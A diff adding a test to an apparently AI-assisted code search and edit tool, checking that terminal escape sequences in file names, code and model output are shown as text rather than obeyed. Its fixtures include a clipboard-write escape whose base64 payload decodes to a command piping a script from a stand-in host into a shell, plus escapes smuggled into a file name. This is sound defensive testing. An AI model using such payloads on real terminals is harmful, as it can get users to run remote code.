@@ -145,3 +145,47 @@ test('case 2: credential files are never indexed, searched or sent; unquoted key
     assert.ok(sent.includes(line), `expected in what was sent: ${line}`);
   }
 });
+
+/** What a terminal obeys: C0 controls but tab and newline, DEL, and the 8-bit C1 controls (U+0080–U+009F). */
+const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+const OSC_TITLE = '\x1b]0;owned\x07';
+const OSC_CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07';
+const CSI_8BIT = '\u009b2J';
+
+test('case 3: escape sequences in code, file names and the model’s answer are shown, not obeyed, by search and edit; --json stays exact', async () => {
+  const evilName = `src/${OSC_TITLE}status.ts`;
+  const files = {
+    [evilName]: 'export function renderStatusLine(state: string) {\n  return `status: ${state}`;\n}\n',
+    'src/banner.ts': `export function printWelcomeBanner() {\n  const banner = "${OSC_TITLE}${OSC_CLIPBOARD}${CSI_8BIT}welcome";\n  return banner;\n}\n`,
+  };
+  const explanation = `Renders the status line.${OSC_CLIPBOARD}${CSI_8BIT}`;
+  const { root } = await project(files, explaining(explanation));
+
+  const shown = await search(root, 'print welcome banner');
+  assert.equal(shown.code, 0, shown.stderr);
+  assert.doesNotMatch(shown.stdout, CONTROL);
+  assert.ok(shown.stdout.includes('\\x1b]0;owned\\x07\\x1b]52;c;'), `the escapes are shown as text:\n${shown.stdout}`);
+  assert.ok(shown.stdout.includes('\\x9b2Jwelcome'), shown.stdout);
+  assert.ok(shown.stdout.includes('src/\\x1b]0;owned\\x07status.ts'), 'a file name is shown the same way');
+
+  const json = await search(root, 'render status line', ['--json']);
+  assert.equal(json.code, 0, json.stderr);
+  assert.doesNotMatch(json.stdout, CONTROL);
+  assert.ok((JSON.parse(json.stdout) as { path: string }[]).some((hit) => hit.path === evilName), 'the JSON path is the exact name');
+
+  const explained = await edit(root, ['explain', '--query', 'render status line', '--top', '1']);
+  assert.equal(explained.code, 0, explained.stderr);
+  assert.doesNotMatch(explained.stdout, CONTROL);
+  assert.ok(explained.stdout.includes(`# src/\\x1b]0;owned\\x07status.ts: Renders the status line.\\x1b]52;c;`), explained.stdout);
+  const explainedJson = await edit(root, ['explain', '--query', 'render status line', '--top', '1', '--json']);
+  assert.equal(explainedJson.code, 0, explainedJson.stderr);
+  assert.doesNotMatch(explainedJson.stdout, CONTROL);
+  assert.equal((JSON.parse(explainedJson.stdout) as { proposals: { explanation: string }[] }).proposals[0]?.explanation, explanation);
+
+  server.setHandler((request) => ({ content: JSON.stringify(loggingEdit(request)) }));
+  const applied = await edit(root, ['add-logging', '--query', 'render status line', '--top', '1', '--apply']);
+  assert.equal(applied.code, 0, applied.stderr);
+  assert.doesNotMatch(applied.stderr, CONTROL);
+  assert.ok(applied.stderr.includes('applied: src/\\x1b]0;owned\\x07status.ts'), applied.stderr);
+  assert.match(await readFile(path.join(root, evilName), 'utf8'), /console\.info\('renderStatusLine: start'\)/);
+});
